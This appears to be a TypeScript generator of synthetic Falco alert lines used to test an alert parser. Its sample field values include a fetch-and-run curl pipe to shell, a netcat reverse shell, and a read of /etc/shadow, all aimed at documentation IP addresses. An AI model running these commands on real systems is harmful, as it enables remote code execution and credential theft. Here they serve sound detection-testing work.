/**
 * GENERATED Falco text-output lines for tests: each stock rule's output template filled with
 * realistic values (by field), behind each header form Falco writes (short and ISO 8601 times,
 * every priority, plain and syslog), sometimes with the fields Falco appends after the output.
 * Not real alerts: tests and the vendor/falco/text-output/generated-stock-rules.log fixture say so.
 */
import { PRIORITIES } from '../model';
import { RULE_OUTPUTS } from '../knowledge/ruleOutputs';
import { compileTemplate } from '../ingest/outputTemplate';
import { typedValue } from '../ingest/outputTemplate';
import type { OutputFields } from '../model';

export interface GeneratedLine {
  line: string;
  rule: string;
  fields: OutputFields;
}

const BY_FIELD: Record<string, string[]> = {
  'proc.cmdline': ['bash -c curl -s http://203.0.113.7/x.sh | sh', 'cat /etc/shadow', 'nc -e /bin/sh 198.51.100.4 4444'],
  'proc.pcmdline': ['containerd-shim -namespace k8s.io -id 3ad7b26ded6d', 'sshd: alice [priv]'],
  'proc.name': ['bash', 'cat', 'nc', 'python3'],
  'proc.pname': ['containerd-shim', 'sshd', 'runc', '<NA>'],
  'proc.exepath': ['/usr/bin/bash', '/usr/bin/cat'],
  'proc.pexepath': ['/usr/bin/containerd-shim-runc-v2'],
  'proc.pexe': ['/usr/bin/containerd-shim-runc-v2'],
  'proc.tty': ['0', '34816'],
  'proc.cwd': ['/root/', '/var/www/'],
  'proc.env': ['HOME=/root PATH=/usr/bin'],
  'proc.sname': ['bash'],
  'proc.args': ['-c id'],
  'fd.name': ['/etc/shadow', '10.0.0.5:43512->10.96.0.1:443', '/root/.ssh/authorized_keys'],
  'fd.nameraw': ['/etc/../etc/shadow'],
  'fd.rport': ['443', '4444'],
  'fd.lport': ['43512'],
  'fd.type': ['ipv4', 'file'],
  'fd.l4proto': ['tcp', 'udp'],
  'user.name': ['root', 'www-data', '<NA>'],
  'user.uid': ['0', '33'],
  'user.loginuid': ['-1', '1000'],
  'evt.type': ['openat', 'execve', 'connect'],
  'evt.res': ['SUCCESS', 'EPERM'],
  'evt.arg.flags': ['EXE_WRITABLE|EXE_LOWER_LAYER', '0'],
  'container.id': ['3ad7b26ded6d', 'host'],
  'container.name': ['nginx-7d9c', 'host'],
  'container.image.repository': ['docker.io/library/nginx'],
  'container.image.tag': ['1.27.0'],
  'k8s.ns.name': ['default', 'payments'],
  'k8s.pod.name': ['web-7d9c6b5f4-x2x9q'],
};

const BY_PREFIX: [string, string[]][] = [
  ['ka.user.name', ['system:serviceaccount:ci:deployer', 'alice@example.com']],
  ['ka.target.name', ['web-7d9c6b5f4-x2x9q', 'cluster-admin-binding']],
  ['ka.target.namespace', ['kube-system', 'default']],
  ['ka.', ['exec', 'allow', '201', 'pods', 'RBAC: allowed by ClusterRoleBinding "ci-admin"']],
  ['ct.user', ['arn:aws:iam::123456789012:user/alice', 'AIDAEXAMPLE']],
  ['ct.srcip', ['198.51.100.23']],
  ['ct.region', ['eu-west-1']],
  ['ct.', ['prod-logs', 'sg-0a1b2c3d', 'arn:aws:lambda:eu-west-1:123456789012:function:exfil']],
  ['gcp.projectId', ['acme-prod-431208']],
  ['gcp.user', ['mallory@example.com']],
  ['gcp.callerIP', ['203.0.113.50']],
  ['gcp.userAgent', ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36,gzip(gfe)']],
  ['gcp.', ['{"permission":"compute.firewalls.update","granted":true}', 'projects/acme-prod-431208/global/firewalls/allow-all']],
  ['okta.', ['Alice Example', '198.51.100.77', 'alice@example.com']],
  ['github.', ['acme-corp', 'octo-user', 'https://github.com/acme-corp/payments', '42']],
  ['json.value', ['allow-ssh-from-anywhere']],
  ['jevt.value', ['[{"hostPath":{"path":"/"}}]']],
  ['s3.', ['acme-backups']],
  ['proc.aname', ['sshd', 'systemd', '<NA>']],
  ['proc.aexepath', ['/usr/sbin/sshd']],
  ['fd.', ['203.0.113.7', 'evil.example.net']],
  ['evt.arg.', ['/tmp/x', '/etc/passwd', '0755']],
  ['thread.cap', ['CAP_SYS_ADMIN CAP_NET_ADMIN']],
  ['container.', ['2024-08-07T13:49:51Z']],
  ['evt.', ['1']],
  ['proc.', ['4242']],
  ['user.', ['alice']],
];

export function sampleValue(field: string, i: number): string {
  const own = BY_FIELD[field] ?? BY_PREFIX.find(([p]) => field.startsWith(p))?.[1] ?? ['value-' + field.replace(/[^a-z0-9]/gi, '')];
  return own[i % own.length]!;
}

function pad(n: number, w = 2): string {
  return String(n).padStart(w, '0');
}

/** One line per stock rule template and header form; `appended` adds Falco's container fields. */
export function generatedStockLines(): GeneratedLine[] {
  const out: GeneratedLine[] = [];
  RULE_OUTPUTS.forEach(([rule, source, , output], k) => {
    const c = compileTemplate({ rule, source, priority: 'Notice', output });
    const fields: OutputFields = {};
    let text = c.lits[0]!;
    c.fields.forEach((f, i) => {
      const v = sampleValue(f, k + i);
      fields[f] = typedValue(f, v, source);
      text += v + c.lits[i + 1]!;
    });
    if (k % 3 === 0 && source === 'syscall') {
      text += ' container_id=3ad7b26ded6d container_name=nginx-7d9c';
      fields['container.id'] ??= '3ad7b26ded6d';
      fields['container.name'] ??= 'nginx-7d9c';
    }
    const priority = PRIORITIES[k % PRIORITIES.length]!;
    const ns = pad((k * 7919) % 1_000_000_000, 9);
    const hh = pad(k % 24);
    const mm = pad((k * 7) % 60);
    const header = k % 2 === 0 ? `${hh}:${mm}:05.${ns}` : `2026-03-${pad((k % 28) + 1)}T${hh}:${mm}:05.${ns}+0000`;
    const syslog = k % 5 === 0 ? `Mar ${String((k % 28) + 1).padStart(2, ' ')} ${hh}:${mm}:05 node-${k % 4} falco[812]: ` : '';
    out.push({ line: `${syslog}${header}: ${priority} ${text}`, rule, fields });
  });
  return out;
}
